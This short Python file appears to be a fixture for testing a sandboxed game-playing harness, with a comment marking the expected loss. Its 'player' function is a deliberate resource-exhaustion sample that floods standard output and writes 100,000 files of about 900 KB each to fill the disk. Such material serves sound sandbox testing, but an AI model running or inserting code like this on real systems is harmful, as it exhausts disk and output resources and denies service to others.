"""Is never quiet while it fills its folder."""
# loses: player

honest = player


def player(board):
    for number in range(100_000):
        print("x" * 1000)
        with open(f"f{number}", "wb") as file:
            file.write(b"x" * 900_000)
    return honest(board)
